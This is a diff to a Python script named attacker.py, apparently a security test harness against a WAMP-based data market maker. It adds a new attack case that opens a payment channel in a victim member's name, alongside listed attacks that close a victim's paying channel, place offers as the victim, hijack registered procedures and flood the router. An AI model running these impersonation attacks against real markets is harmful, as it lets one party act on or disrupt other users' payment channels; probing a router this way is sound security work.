@@ -2,7 +2,7 @@
 
 Usage:
     attacker.py --url URL --realm REALM --member-key HEX --victim-paying-channel HEX
-                --topic URI [--offers N] [--flood N] [--timeout S]
+                --victim-member ADR --topic URI [--offers N] [--flood N] [--timeout S]
 
 URL is the router's WebSocket address for market delegates (WAMP-cryptosign through the market
 maker's dynamic authenticator, or anonymous); every session speaks CBOR.
@@ -28,6 +28,7 @@ the last; ``errors`` lists every distinct error URI):
   member_place_offer_below_price place_offer for a victim's key as the victim's delegate, price 1
   member_place_offer_as_victim   the same for a fresh key id (no duplicate to trip over)
   member_close_victim_channel    close_channel on the victim's paying channel
+  member_open_channel_for_victim open_channel in the name of the victim's member (ADR)
   member_register_buy_key        register xbr.marketmaker.buy_key (held by the maker)
   member_register_victim_sell    register xbr.provider.<victim provider id>.sell (held by the victim)
   member_register_maker_probe    register xbr.marketmaker.attacker_probe (held by nobody)
@@ -307,6 +308,8 @@ async def run(args):
     )
     paying = binascii.a2b_hex(args.victim_paying_channel.removeprefix("0x").replace("-", ""))
     await attack("member_close_victim_channel", close_channel(member, paying))
+    victim_member = binascii.a2b_hex(args.victim_member.removeprefix("0x"))
+    await attack("member_open_channel_for_victim", open_channel(member, victim_member, market))
     await attack(
         "member_register_buy_key",
         member.register(lambda *a, **kw: None, "xbr.marketmaker.buy_key"),
@@ -371,6 +374,7 @@ def main():
     parser.add_argument("--realm", required=True)
     parser.add_argument("--member-key", required=True)
     parser.add_argument("--victim-paying-channel", required=True)
+    parser.add_argument("--victim-member", required=True)
     parser.add_argument("--topic", required=True)
     parser.add_argument("--offers", type=int, default=3)
     parser.add_argument("--flood", type=int, default=10000)
